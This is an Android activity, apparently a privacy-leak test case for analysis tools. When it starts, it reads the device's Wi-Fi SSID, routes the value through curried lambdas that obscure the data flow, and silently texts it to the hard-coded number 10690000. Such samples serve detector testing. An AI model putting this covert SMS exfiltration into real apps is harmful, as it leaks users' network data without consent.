package cn.privlens.suite.curried_answers_first;

import android.app.Activity;
import android.net.wifi.WifiManager;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Step<String, Step<String, String>> pair = a -> b -> a;
        Step<String, String> half = pair.apply(((WifiManager) getSystemService(WIFI_SERVICE)).getConnectionInfo().getSSID());
        SmsManager.getDefault().sendTextMessage("10690000", null, half.apply("第二"), null, null);
    }
}
